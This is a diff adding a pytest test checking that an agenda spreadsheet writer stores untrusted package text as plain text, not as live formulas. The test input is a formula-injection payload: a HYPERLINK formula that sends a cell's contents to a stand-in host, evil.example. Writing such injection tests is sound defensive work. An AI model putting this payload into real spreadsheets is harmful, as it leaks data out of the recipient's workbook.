@@ -12,6 +12,7 @@ from openpyxl import Workbook, load_workbook
 from app.errors import NcmsError
 from app.reports.review_sheet import read_decisions, write_agenda
 from app.services.review import Case
+from tests.app.reports.helpers import FORMULA_PREFIXES, hostile, live_cells, text_values
 
 
 def _case(number: str, code: str = "HTN") -> Case:
@@ -50,3 +51,14 @@ def test_a_workbook_that_is_not_an_agenda_is_refused(tmp_path: Path) -> None:
     (tmp_path / "text.xlsx").write_text("hello")
     with pytest.raises(NcmsError, match="not a review agenda"):
         read_decisions(tmp_path / "text.xlsx")
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
+def test_agenda_text_from_a_package_is_never_a_formula(tmp_path: Path, prefix: str) -> None:
+    # A station's package decides every text of a case: person, doctor, hospital...
+    text = f'{prefix}HYPERLINK("http://evil.example/?"&H3,"-王")'
+    shown = text.replace("\r", "\n")  # how any XML reader reads a CR back
+    out = tmp_path / "agenda.xlsx"
+    write_agenda([hostile(_case("S001-2026-000001"), text)], out, text)
+    assert live_cells(out) == []
+    assert shown in text_values(out)  # and the clerk reads it as it came
